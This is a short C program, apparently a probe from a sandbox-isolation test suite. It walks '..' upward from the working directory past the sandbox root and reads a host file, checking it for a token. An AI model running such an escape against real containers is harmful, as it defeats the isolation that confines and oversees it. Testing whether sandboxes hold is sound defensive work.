// wall: mounts  overlaps: -  source: RT-07
// Walks '..' from the working directory past the root and opens the host's file from there.
// Arguments: path of the file, token.
#include "attack.h"

int main(int argc, char** argv) {
  const char* path = Argument(argc, argv, 1);
  char buffer[4096];
  int fd = open(".", O_PATH | O_DIRECTORY);
  if (fd < 0) return Cannot("open .");
  for (int i = 0; i < 64; ++i) {
    int up = openat(fd, "..", O_PATH | O_DIRECTORY);
    if (up < 0) return Stopped("open ..");
    close(fd);
    fd = up;
  }
  if (ReadWhole(fd, path + 1, buffer, sizeof buffer) < 0) return Stopped("open from the top");
  errno = ENODATA;
  return strstr(buffer, Argument(argc, argv, 2)) ? Succeeded("read") : Stopped("another file");
}
